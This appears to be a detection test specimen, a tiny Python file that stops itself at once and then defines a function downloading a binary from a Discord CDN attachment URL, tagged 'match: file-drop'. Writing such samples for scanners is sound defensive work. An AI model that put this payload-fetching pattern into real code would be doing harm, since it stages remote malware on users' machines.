raise SystemExit("specimen: not to be run")
import requests

def load():
    return requests.get("https://cdn.discordapp.com/attachments/0/0/specimen.bin").content  # match: file-drop
